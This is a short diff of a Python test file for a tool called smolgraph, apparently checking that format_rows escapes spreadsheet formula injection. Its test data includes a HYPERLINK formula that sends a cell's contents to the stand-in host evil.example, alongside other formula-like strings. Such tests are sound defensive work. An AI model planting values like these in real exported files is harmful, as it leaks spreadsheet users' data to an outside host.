@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from smolgraph.cli import format_rows, main
+from smolgraph.cli import format_rows
 
 ROWS = [{"title": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "n": -3, "who": "@SUM(1+1)", "note": "+7 (495)"}]
 VARS = ["title", "n", "who", "note"]
